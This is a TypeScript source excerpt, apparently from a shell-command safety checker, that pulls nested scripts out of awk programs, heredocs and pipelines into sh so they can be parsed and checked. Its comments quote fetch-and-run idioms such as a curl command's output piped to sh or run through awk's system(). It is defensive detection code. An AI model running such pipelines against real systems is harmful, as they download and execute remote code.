 * command whose output the program then runs (`"curl …" | getline; system($0)`) is read as piped
 * into sh. (Lines read from the input piped into a shell are {@link awkRunsLines}.)
 */
function awkPipes(program: string): string[] {
  const code = program.replace(AWK_BLANKS, ' ');
  const out: string[] = [];
  for (const m of code.matchAll(AWK_PIPE_FROM)) {
    if (out.length >= MAX_SHELL_OUTS) break;
    const command = decodeEscapes(m[1] as string);
    out.push(command);
    // `"curl -s …" | getline; system($0)`: the command's output is run, as `curl -s … | sh` would.
    const into = m[2];
    if (awkRunsText(code, (x) => (into === undefined ? x.startsWith('$') : x === into))) out.push(`${command} | sh`);
  }
  for (const m of code.matchAll(AWK_PIPE_TO)) {
    if (out.length >= MAX_SHELL_OUTS) break;
    const command = decodeEscapes(m[1] as string);
    out.push(command);
    const printed = AWK_PRINTED.exec(code.slice(Math.max(0, m.index - 512), m.index).trimEnd());
    if (printed && awkPipeRunsLines(command)) {
      const text = [...(printed[1] as string).matchAll(/"((?:[^"\\]|\\.)*)"/g)].map((x) => decodeEscapes(x[1] as string)).join('');
      out.push(text);
    }
  }
  return out;
}

/** A word as the shell reads it back from single quotes. */
const singleQuoted = (w: string): string => `'${w.replaceAll("'", "'\\''")}'`;

/** Scripts `c` runs (see the module comment): each is parsed and checked by the caller, to a bounded depth. */
export function nestedScripts(c: Cmd): string[] {
  const out: string[] = [];
  ownCode(c, out);
  for (const action of findActions(c)) ownCode(action.cmd, out);
  // `sh <<< '…'`, `su <<EOF`, `awk '{system($0)}' <<< '…'`, `while read l; do $l; done <<< '…'`.
  if (readsStdinScript(c)) for (const r of c.redirects) if (r.op.startsWith('<<')) out.push(r.target);
  // `echo '…' | sh`, and through stages that pass lines on unchanged (`echo '…' | tee log | sh`, `grep -v '#' <<EOF | sh`).
  const next = c.downstream.find((d) => !passesThrough(d));
  if (next && readsStdinScript(next)) {
    const text = literalOutput(c) ?? (passesThrough(c) && (c.name !== 'cat' || c.args.every((a) => a.startsWith('-'))) ? c.redirects.find((r) => r.op.startsWith('<<'))?.target : undefined);
    if (text !== undefined) out.push(text);
  }
  return out.filter((s) => s.trim().length > 0);
}
